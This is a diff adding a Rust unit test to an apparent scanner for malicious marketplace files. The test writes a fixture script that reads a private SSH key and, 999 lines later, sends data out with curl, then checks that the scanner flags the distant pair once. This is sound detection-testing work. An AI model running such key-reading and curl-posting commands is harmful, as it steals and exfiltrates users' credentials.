@@ -75,6 +75,7 @@ fn inspect(root: &Dir, path: &str, kind: EntryKind) -> Vec<Finding> {
 mod tests {
     use super::*;
     use crate::marketplace::scan::Severity;
+    use crate::marketplace::scan::rule::FAR;
     use crate::marketplace::scan::rules::PASSES;
     use crate::sys::dir::swapping::while_swapped;
     use std::collections::BTreeMap;
@@ -111,6 +112,11 @@ mod tests {
             PASSES.get() - before
         };
         assert_eq!((passes(50), passes(500)), (50, 500));
+        // Most lines of a text that reads secrets have no word of what sends.
+        let text = "cat ~/.ssh/id_rsa\n".to_owned() + &"Post it.\n".repeat(999) + "curl -d @x y";
+        fs::write(dir.path().join("sends.sh"), text).unwrap();
+        scan(dir.path());
+        assert_eq!(FAR.get(), 1);
     }
 
     #[test]
